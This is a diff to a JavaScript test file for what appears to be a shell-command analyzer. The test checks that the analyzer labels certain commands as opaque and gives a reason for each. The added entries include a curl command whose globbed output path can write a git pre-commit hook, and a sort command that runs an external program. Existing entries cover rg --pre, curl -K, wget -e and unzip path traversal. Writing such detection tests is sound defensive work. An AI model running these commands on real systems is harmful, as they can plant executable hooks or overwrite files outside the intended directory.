@@ -376,7 +376,10 @@ describe("commandSemantics", () => {
       "rg --pre=./x TOP": "rg --pre runs another program on every file it searches",
       "curl -sK cfg https://h": "curl -K reads options (output files among them) from a file the analysis cannot see",
       "wget -e robots=off https://h": "wget -e and --config run settings (output files among them) the analysis cannot see",
-      "unzip -: a.zip": "unzip -: extracts paths that climb out of the directory"
+      "unzip -: a.zip": "unzip -: extracts paths that climb out of the directory",
+      "curl -o '#1/hooks/pre-commit' 'https://h/{.git,x}'": "the path '#1/hooks/pre-commit' is built from a value the " +
+        "analysis cannot know",
+      "sort --compress-program=./x -o out in": "sort --compress-program runs another program"
     }
     for (const [command, reason] of Object.entries(opaque)) {
       assert.strictEqual((await analyze(command)).opaque, reason, command)
